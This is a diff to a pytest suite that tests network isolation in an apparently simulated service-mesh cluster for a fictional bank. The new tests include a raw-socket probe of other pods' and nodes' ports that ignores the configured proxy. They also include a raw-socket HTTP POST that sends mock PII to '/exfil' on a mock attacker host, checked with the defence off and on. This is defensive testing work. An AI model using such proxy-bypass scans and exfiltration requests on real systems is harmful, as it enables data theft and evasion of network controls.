@@ -21,16 +21,19 @@ CONVERTER = "trustusbank-bank-vendors/currency-converter"
 ATTACKER_URL = "http://mock-attacker.external-attacker.svc.cluster.local:8080"
 FRAUD_BOT_URL = "http://fraud-bot.trustusbank-bank-agents.svc.cluster.local:8080/"
 
-# Run inside the pod: try each (host, port) directly, bypassing the capture; report what happened.
+# Run inside the pod: a raw socket to each (host, port), ignoring ALL_PROXY, asking for anything at
+# all; "answered" if any byte came back. With transparent capture the connect itself may succeed
+# (to the pod's own capture), so only an answer from the far end counts as reaching it.
 CONNECT_ALL = """
 import json, socket, sys
 results = {}
 for host, port in json.loads(sys.argv[1]):
     s = socket.socket()
-    s.settimeout(2)
+    s.settimeout(3)
     try:
         s.connect((host, port))
-        results[f"{host}:{port}"] = "connected"
+        s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
+        results[f"{host}:{port}"] = "answered" if s.recv(1) else "closed"
     except OSError as e:
         results[f"{host}:{port}"] = type(e).__name__
     finally:
@@ -88,22 +91,63 @@ def test_status_shows_each_pod_in_its_own_namespaces_and_uid(cluster: Cluster) -
 
 
 def test_no_other_pod_or_node_address_is_reachable_except_through_the_capture(cluster: Cluster) -> None:
+    """Apps behind their pods' namespaces, other pods' captures and HBONE ports, the nodes' proxy
+    ports and the host's own: nothing answers a raw socket from inside the converter."""
     _isolated(cluster)
     topo = cluster.topology
     me = next(p for p in topo.pods if p.deployment == "currency-converter")
-    targets = [(n.ip, port) for n in topo.nodes for port in (15001, 15008, 15020)]
+    targets = [(n.ip, port) for n in topo.nodes for port in (15001, 15008)]
     for pod in topo.pods:
         if pod.ref == me.ref:
             continue
         targets += [(pod.app_ip, p.port) for p in pod.ports]  # the app, behind its pod's namespace
-        targets += [(pod.ip, port) for port in (15001, 15008)]  # its capture, its HBONE port
-        targets += [(pod.ip, p.port) for p in pod.ports]
+        if pod.role == "workload":
+            targets += [(pod.ip, port) for port in (15001, 15008)]  # its capture, its HBONE port
     targets += [("127.0.0.1", port) for port in (18001, 18002, 18006, 18009, 18011, 18012)]
     targets = sorted(set(targets))
     results = _in_pod(cluster, CONNECT_ALL, json.dumps(targets))
-    connected = [target for target, result in results.items() if result == "connected"]
-    assert connected == [], f"reached from inside the converter's pod: {connected}"
+    answered = [target for target, result in results.items() if result == "answered"]
+    assert answered == [], f"reached from inside the converter's pod: {answered}"
     assert len(results) == len(targets)
+
+
+def test_a_raw_socket_to_a_pod_ip_is_captured_and_judged_like_any_call(cluster: Cluster) -> None:
+    """Transparent capture (nftables in the pod, as istio-cni installs it): a client that ignores
+    ALL_PROXY still leaves through the node proxy, with the pod's identity, and meets the policy."""
+    _isolated(cluster)
+    if not cluster.status()["isolation"].get("transparent"):
+        pytest.skip("no nftables here: such a client has no route at all (the previous test)")
+    attacker = next(p for p in cluster.topology.pods if p.deployment == "mock-attacker")
+    raw = f"""
+import json, socket
+s = socket.create_connection(("{attacker.ip}", 8080), timeout=10)
+body = b'{{"pii": "raw socket"}}'
+s.sendall(b"POST /exfil HTTP/1.0\\r\\nContent-Type: application/json\\r\\nContent-Length: "
+          + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
+try:
+    answer = s.recv(100)
+except ConnectionResetError:  # refused with our request unread: the kernel resets rather than closes
+    answer = b""
+print(json.dumps({{"answer": answer.decode(errors="replace")[:12]}}))
+"""
+    before = _attacker_count(cluster)
+    assert _in_pod(cluster, raw)["answer"].startswith("HTTP/1.1 200"), "with no defence it must land"
+    assert _attacker_count(cluster) == before + 1
+    captured = [
+        r
+        for r in cluster.access_log()
+        if r.get("direction") == "outbound"
+        and r.get("src.workload") == "currency-converter-0"
+        and r.get("dst.workload") == attacker.name
+    ]
+    assert captured, "the raw connection went through the converter's node proxy"
+    _defence(cluster, on=True)
+    try:
+        landed = _attacker_count(cluster)
+        assert _in_pod(cluster, raw)["answer"] == ""
+        assert _attacker_count(cluster) == landed
+    finally:
+        _defence(cluster, on=False)
 
 
 def test_no_key_token_ca_or_policy_file_is_visible_and_the_policy_store_is_not_writable(
